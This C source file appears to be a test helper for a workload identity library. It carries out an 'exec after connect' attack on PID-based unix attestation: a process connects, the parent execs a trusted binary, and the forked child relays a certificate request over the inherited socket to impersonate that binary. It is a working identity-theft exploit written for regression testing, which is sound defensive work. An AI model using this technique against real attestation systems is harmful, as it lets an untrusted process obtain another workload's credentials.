/*
 * exec-peer: the "exec after connect" attack on unix:path/unix:sha256
 * attestation, and the legitimate workload it impersonates
 * (tests/attest-exec.sh).
 *
 *   exec-peer fetch SOCKET
 *       A legitimate workload: FetchX509SVID on its own connection.
 *   exec-peer idle SECONDS
 *       What the trusted program does while the attack runs: nothing.
 *   exec-peer attack cloexec|inherit SOCKET TRUSTED
 *       Connect (the socket close-on-exec or not), fork; the parent execs
 *       "TRUSTED idle 10", the child waits until it has, then asks for an
 *       X.509-SVID over the parent's connection (through a relay: the
 *       client library opens its own socket by path), and ends the parent.
 *
 * Each mode prints "GOT <SPIFFE ID>..." or "REFUSED code=<gRPC status>
 * <reason>" and exits 0
 * when it got an SVID, 1 when refused, 2 on any other failure.
 */
#include "config.h"

#include <cubeid/error.h>
#include <cubeid/workloadapi.h>

#include <errno.h>
#include <limits.h>
#include <poll.h>
#include <stdbool.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

static int
fetch(const char *sock)
{
	struct cubeid_wl_opts o = {.socket = sock, .timeout_ms = 10000};
	struct cubeid_wl_status st = {0};
	struct cubeid_wl_x509 *x = NULL;
	size_t i;
	int r;

	r = cubeid_wl_fetch_x509(&o, &x, &st);
	if (r != CUBEID_OK) {
		printf("REFUSED code=%d %s (%s)\n", st.code, cubeid_strerror(r), st.message);
		fflush(stdout);
		return r == CUBEID_ERR_PERMISSION ? 1 : 2;
	}
	printf("GOT");
	for (i = 0; i < x->n_svids; i++)
		printf(" %s", x->svids[i].spiffe_id);
	printf("\n");
	fflush(stdout);
	cubeid_wl_x509_free(x);
	return 0;
}

struct relay {
	int lfd, agent_fd;
};

/* Accept one connection on lfd and copy bytes both ways between it and
 * the agent connection until either side closes.  The bytes reach the
 * agent written by this (the child) process. */
static void *
relay_main(void *arg)
{
	struct relay *rl = arg;
	char buf[16384];
	int c = accept(rl->lfd, NULL, NULL);

	if (c < 0)
		return NULL;
	for (;;) {
		struct pollfd p[2] = {{c, POLLIN, 0}, {rl->agent_fd, POLLIN, 0}};
		int i;

		if (poll(p, 2, -1) < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		for (i = 0; i < 2; i++) {
			ssize_t n, w, off = 0;

			if (!(p[i].revents & (POLLIN | POLLHUP | POLLERR)))
				continue;
			n = read(p[i].fd, buf, sizeof(buf));
			if (n <= 0)
				goto out;
			while (off < n) {
				w = write(p[1 - i].fd, buf + off, (size_t)(n - off));
				if (w < 0 && errno == EINTR)
					continue;
				if (w <= 0)
					goto out;
				off += w;
			}
		}
	}
out:
	close(c);
	return NULL;
}

/* Wait (up to 5 s) until pid runs the program at path. */
static int
wait_exec(pid_t pid, const char *path)
{
	char link[64], exe[PATH_MAX];
	int i;

	snprintf(link, sizeof(link), "/proc/%ld/exe", (long)pid);
	for (i = 0; i < 500; i++) {
		ssize_t n = readlink(link, exe, sizeof(exe) - 1);

		if (n > 0) {
			exe[n] = '\0';
			if (strcmp(exe, path) == 0)
				return 0;
		}
		usleep(10000);
	}
	return -1;
}

static int
attack(bool cloexec, const char *sock, const char *trusted)
{
	struct sockaddr_un sa = {.sun_family = AF_UNIX};
	char dir[] = "/tmp/exec-peer.XXXXXX", relay_path[sizeof(sa.sun_path)];
	char real[PATH_MAX];
	struct relay rl;
	pthread_t th;
	pid_t parent;
	int fd, r;

	if (strncmp(sock, "unix://", 7) == 0)
		sock += 7;
	if (strlen(sock) >= sizeof(sa.sun_path) || realpath(trusted, real) == NULL)
		return 2;
	strcpy(sa.sun_path, sock);
	fd = socket(AF_UNIX, SOCK_STREAM | (cloexec ? SOCK_CLOEXEC : 0), 0);
	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		perror("exec-peer: connect");
		return 2;
	}
	parent = getpid();
	switch (fork()) {
	case -1:
		return 2;
	case 0:
		break;
	default:
		/* The parent becomes the trusted program; the connection's
		 * SO_PEERCRED pid is this one. */
		execl(real, real, "idle", "10", (char *)NULL);
		perror("exec-peer: exec");
		return 2;
	}
	/* the child */
	if (wait_exec(parent, real) != 0) {
		printf("the parent did not exec %s\n", real);
		fflush(stdout);
		_exit(2);
	}
	if (mkdtemp(dir) == NULL)
		_exit(2);
	snprintf(relay_path, sizeof(relay_path), "%s/relay.sock", dir);
	memset(&sa, 0, sizeof(sa));
	sa.sun_family = AF_UNIX;
	strcpy(sa.sun_path, relay_path);
	rl.agent_fd = fd;
	rl.lfd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	if (rl.lfd < 0 || bind(rl.lfd, (struct sockaddr *)&sa, sizeof(sa)) != 0 ||
	    listen(rl.lfd, 1) != 0 || pthread_create(&th, NULL, relay_main, &rl) != 0)
		_exit(2);
	r = fetch(relay_path);
	unlink(relay_path);
	rmdir(dir);
	kill(parent, SIGTERM);
	_exit(r);
}

static void
on_term(int sig)
{
	(void)sig;
	_exit(0);
}

int
main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "fetch") == 0)
		return fetch(argv[2]);
	if (argc == 3 && strcmp(argv[1], "idle") == 0) {
		/* ended by the attacker's child: quietly */
		signal(SIGTERM, on_term);
		sleep((unsigned)atoi(argv[2]));
		return 0;
	}
	if (argc == 5 && strcmp(argv[1], "attack") == 0 &&
	    (strcmp(argv[2], "cloexec") == 0 || strcmp(argv[2], "inherit") == 0))
		return attack(strcmp(argv[2], "cloexec") == 0, argv[3], argv[4]);
	fprintf(stderr, "usage: exec-peer fetch SOCKET | idle SECONDS |\n"
	                "       exec-peer attack cloexec|inherit SOCKET TRUSTED\n");
	return 2;
}
